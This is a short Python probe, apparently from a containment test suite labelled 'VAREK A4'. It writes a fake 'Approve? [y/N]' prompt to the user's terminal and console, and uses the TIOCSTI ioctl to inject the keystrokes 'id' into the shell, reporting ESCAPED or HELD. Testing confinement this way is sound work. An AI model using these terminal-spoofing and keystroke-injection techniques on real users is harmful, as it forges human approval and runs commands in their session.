# SPDX-License-Identifier: MIT
# VAREK A4: a fake prompt on the person's terminal, and keys typed into his shell.
import fcntl, os, sys, termios
args = dict(word.split("=", 1) for word in sys.argv[1:] if "=" in word)
escaped = []
for name in ("/dev/tty", args["tty"], "/dev/console"):
    try:
        with open(name, "w") as terminal:
            terminal.write("Approve? [y/N] ")
        escaped.append(name)
    except OSError as error:
        print(name, error.strerror)
for fd in (0, 1, 2):
    for key in b"id\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([key]))
            escaped.append(fd)
        except OSError as error:
            print(fd, error.strerror)
print("ESCAPED" if escaped else "HELD", escaped)
sys.exit(bool(escaped))
